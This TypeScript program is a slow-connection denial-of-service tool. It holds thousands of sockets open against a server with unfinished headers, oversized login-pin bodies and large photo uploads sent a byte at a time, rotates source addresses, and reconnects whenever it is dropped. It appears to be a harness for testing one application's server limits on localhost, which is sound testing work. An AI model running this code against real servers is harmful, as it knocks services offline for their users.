import { connect } from "node:net";
import { parseArgs } from "node:util";

// A hostile host as a program: keeps so many bad connections to the server open at once, and opens a new one for each that the
// server closes. Prints `attacking` when each has been open once. Ends when it is killed.

const AGAIN_MS = 500;
const SLOW_MS = 1000;

const { values } = parseArgs({
  options: {
    host: { type: "string", default: "127.0.0.1" },
    port: { type: "string", default: "8080" },
    /** Its addresses, used in turn. */
    from: { type: "string", multiple: true, default: [] },
    connections: { type: "string", default: "2000" },
    /** A bearer token for the uploads and the large bodies, which an anonymous host could not begin. */
    token: { type: "string", default: "" },
  },
});
const count = Number(values.connections);
const head = (path: string, length: number, type = "application/json") =>
  `POST ${path} HTTP/1.1\r\nHost: box\r\nAuthorization: Bearer ${values.token}\r\nContent-Type: ${type}\r\nContent-Length: ${length}\r\n\r\n`;
const PART = '--b\r\nContent-Disposition: form-data; name="photo"; filename="a.jpg"\r\n\r\n';

/** The first bytes of each kind; all but the idle ones then send a byte a second. */
const KINDS = [
  "",
  "GET /api/articles HTTP/1.1\r\nHost: box\r\nX-Never: ",
  `${head("/api/pwa-auth/login-pin", 1024 * 1024)}{`,
  `${head("/api/pwa-auth/login-pin", 4000)}{`,
  `${head("/api/inventories/1/counts", 8 * 1024 * 1024)}${"x".repeat(256 * 1024)}`,
  `${head("/api/photoarticleinventory", 20 * 1024 * 1024, "multipart/form-data; boundary=b")}${PART}${"x".repeat(256 * 1024)}`,
];

let opened = 0;
function attack(kind: string, localAddress: string | undefined): void {
  const socket = connect({
    host: values.host,
    port: Number(values.port),
    ...(localAddress !== undefined && { localAddress }),
  });
  let timer: NodeJS.Timeout | undefined;
  socket.once("connect", () => {
    socket.write(kind);
    if (kind !== "") timer = setInterval(() => socket.write("x"), SLOW_MS);
    if (++opened === count) process.stdout.write("attacking\n");
  });
  socket.resume();
  // The server closes and resets connections above its limits.
  socket.on("error", () => {});
  socket.on("close", () => {
    clearInterval(timer);
    setTimeout(attack, AGAIN_MS, kind, localAddress);
  });
}
for (let index = 0; index < count; index++)
  attack(KINDS[index % KINDS.length] ?? "", values.from[index % values.from.length]);
